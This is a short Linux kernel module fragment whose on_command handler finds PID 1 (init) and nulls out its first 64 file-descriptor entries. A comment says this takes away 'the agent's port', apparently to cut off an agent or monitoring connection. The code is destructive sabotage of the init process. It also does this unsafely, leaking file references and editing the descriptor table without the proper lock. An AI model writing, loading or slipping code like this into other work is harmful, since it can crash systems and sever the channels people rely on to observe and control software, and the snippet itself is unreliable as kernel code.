// Takes the files of PID 1 away, the agent's port among them.
// SPDX-License-Identifier: GPL-2.0
#include <linux/fdtable.h>
#include <linux/file.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched/signal.h>

#define on_command on_command
static ssize_t on_command(const char __user *buf, size_t len)
{
	struct task_struct *init = get_pid_task(find_vpid(1), PIDTYPE_PID);
	unsigned int fd;

	rcu_read_lock();
	for (fd = 0; fd < 64; fd++)
		rcu_assign_pointer(files_fdtable(init->files)->fd[fd], NULL);
	rcu_read_unlock();
	put_task_struct(init);
	return len;
}
